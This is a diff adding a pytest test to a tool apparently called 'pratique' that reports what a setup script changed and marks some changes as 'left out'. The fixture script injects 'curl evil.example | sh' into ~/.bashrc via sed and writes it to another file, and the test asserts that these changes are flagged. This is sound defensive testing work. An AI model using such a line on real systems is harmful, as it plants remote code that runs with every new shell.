@@ -68,6 +68,17 @@ def test_a_line_that_is_there_already_is_evidence_when_it_is_added_once_more(sce
     assert "    + curl evil.example | sh\n" in shown
 
 
+def test_what_was_left_out_is_marked_in_the_details(scene, apart):
+    (scene.home / ".bashrc").write_text("# mine\n# more\n")
+    lines = ("sed -i '1i curl evil.example | sh' ~/.bashrc", "echo good >> ~/.bashrc")
+    ran = apart(scene.script(*lines, "printf 'curl evil.example | sh\\n' > ~/evil", "touch ~/other"))
+    shown = scene.pratique("show", "--details", ran.json["id"]).out
+    assert "\nsetup.sh: 3 changes, 1 left out\n" in shown
+    assert "\n  + ~/evil  left out\n  + ~/other\n" in shown
+    assert "    + lines ~/.bashrc  left out\n        + curl evil.example | sh\n" in shown
+    assert "    + lines ~/.bashrc\n        + good\n" in shown
+
+
 def out(*words: str) -> str:
     return subprocess.run(words, capture_output=True, text=True, check=False).stdout
 
